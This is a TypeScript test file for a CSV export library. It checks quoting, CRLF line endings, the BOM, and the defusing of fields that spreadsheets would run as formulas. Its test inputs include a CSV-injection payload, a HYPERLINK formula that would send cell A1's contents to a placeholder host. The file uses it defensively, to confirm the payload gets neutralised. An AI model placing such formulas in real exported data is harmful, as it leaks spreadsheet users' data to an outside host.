// The one CSV writer (lib/csv.ts): RFC 4180 quoting, CRLF, a BOM, and no field a spreadsheet
// would run as a formula (docs/product.md "Downloads and open data").
import { parse } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import { csvField, csvLine, csvText, defuseFormula } from "@/lib/csv";
import { writeCsv } from "@/lib/documents/csv-writer";
import { sampleDocument } from "./support";

describe("CSV writer", () => {
  it("quotes what needs quoting, ends lines with CRLF and starts with a BOM", () => {
    expect(csvLine(["a", 'b"c', "d,e", null, 3])).toBe('a,"b""c","d,e",,3\r\n');
    expect(csvText([["x"]]).charCodeAt(0)).toBe(0xfeff);
  });

  it("writes a field that would start a formula as text with a leading '", () => {
    for (const s of ["=1+1", '=HYPERLINK("http://x/"&A1,"点击")', "+86 951", "@SUM(A1)", "-x", "-1+1", "-", "\tx", "\rx"]) {
      expect(defuseFormula(s), JSON.stringify(s)).toBe(`'${s}`);
    }
    expect(csvField('=HYPERLINK("http://x/"&A1,"点击")')).toBe(`"'=HYPERLINK(""http://x/""&A1,""点击"")"`);
    expect(csvField("\r=1")).toBe(`"'\r=1"`);
  });

  it("leaves numbers, negative ones included, and ordinary text as they are", () => {
    for (const s of ["-3", "-3.25", "-1e5", "0", "12.5", "贺兰县 A-B 局", "x=y", "a@b.cn", ""]) expect(defuseFormula(s), s).toBe(s);
    expect(csvLine([-3, "-0.5", 7])).toBe("-3,-0.5,7\r\n");
  });

  it("a report's CSV carries a formula-like agency name as text, negative figures as numbers", () => {
    const doc = sampleDocument("2019");
    doc.agency.name = '=HYPERLINK("http://x/"&A1,"点击")';
    doc.proactive.licensing!.change = -3;
    const rows = parse(writeCsv(doc).subarray(3).toString("utf8"), { columns: true }) as Record<string, string>[];
    expect(new Set(rows.map((r) => r["单位名称"]))).toEqual(new Set([`'${doc.agency.name}`]));
    expect(rows.find((r) => r["行"] === "licensing" && r["列"] === "change")!["数值"]).toBe("-3");
  });
});
